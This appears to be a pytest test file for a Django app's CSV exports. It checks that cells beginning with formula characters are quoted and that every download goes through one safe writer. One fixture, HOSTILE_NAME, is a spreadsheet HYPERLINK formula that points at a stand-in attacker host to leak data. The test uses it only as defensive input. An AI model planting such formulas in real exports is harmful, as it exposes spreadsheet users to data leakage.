"""Every CSV download neutralises cells a spreadsheet would run as a formula, through one
writer (supervision/spreadsheet.py); numbers stay numbers."""

import io
import pathlib
import re

import pytest
from django.urls import reverse

from cases.models import Pattern
from dashboards.views import csv_response
from reflections.models import Strength
from supervision.spreadsheet import safe_cell
from tests.dashboards.helpers import read_csv
from tests.dashboards.test_views import sam_page  # noqa: F401 - a fixture

pytestmark = pytest.mark.usefixtures("catalog")

DASHBOARD = reverse("dashboards:dashboard")
HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak","Open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_could_be_a_formula_is_quoted(start):
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("value", [-4.5, -3, 0, 12, 2.25])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value
    body = csv_response("x.csv", ["value"], [(value,)]).content.decode()
    assert body.splitlines()[1] == str(value)


def test_plain_text_and_none_pass_as_they_are():
    assert safe_cell("Over-preparing") == "Over-preparing"
    assert safe_cell(None) == ""


def test_supervisor_csv_neutralises_a_display_name(client, sam_page, supervisor):  # noqa: F811
    sam_page.display_name = HOSTILE_NAME
    sam_page.save()
    client.force_login(supervisor)
    rows = read_csv(client.get(DASHBOARD, {"weeks": 4, "format": "csv"}))
    assert rows[1][0] == "'" + HOSTILE_NAME
    assert rows[1][2:4] == ["3", "1"]  # the counts are untouched


def test_supervisee_csv_neutralises_catalog_names(client, sam_page):  # noqa: F811
    Pattern.objects.filter(name="Over-preparing").update(name="-Over-preparing")
    Strength.objects.filter(name="Authentic presence").update(name="@Authentic presence")
    client.force_login(sam_page)
    rows = read_csv(client.get(DASHBOARD, {"weeks": 4, "format": "csv"}))
    assert ["pattern", "'-Over-preparing", "last 4 weeks", "2"] in rows
    assert ["strength acknowledged", "'@Authentic presence", "last 4 weeks", "1"] in rows


def test_group_csv_neutralises_catalog_names(client, board_page, other_supervisor):
    Pattern.objects.filter(name="Over-preparing").update(name="+Over-preparing")
    client.force_login(other_supervisor)
    url = reverse("groups:group_dashboard", args=[board_page.pk])
    rows = read_csv(client.get(url, {"weeks": 4, "format": "csv"}))
    assert ["pattern", "'+Over-preparing", "4", "0"] in [[r[0], r[1], r[3], r[4]] for r in rows]


STDLIB_CSV = re.compile(r"^\s*(import csv\b(?!_)|from csv import)|csv\.(writer|DictWriter)\(", re.M)
APPS = [
    "supervision",
    "accounts",
    "cases",
    "reflections",
    "dashboards",
    "groups",
    "hours",
    "demo",
    "config",
]


def test_every_csv_is_written_by_the_one_writer():
    """No app writes CSV but supervision/spreadsheet.py (the writer) and dashboards'
    csv_response (the one response that uses it): a new download has to use them too."""
    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for app in APPS:
        for path in (root / app).rglob("*.py"):
            text = path.read_text()
            relative = path.relative_to(root).as_posix()
            if relative != "supervision/spreadsheet.py" and STDLIB_CSV.search(text):
                offenders.append(relative)
            if relative != "dashboards/views.py" and "text/csv" in text:
                offenders.append(relative)
    assert offenders == []


def test_read_csv_sees_the_quote(client):
    # The helper the tests read with keeps the leading quote (csv does not strip it).
    assert list(__import__("csv").reader(io.StringIO("'=1\n"))) == [["'=1"]]
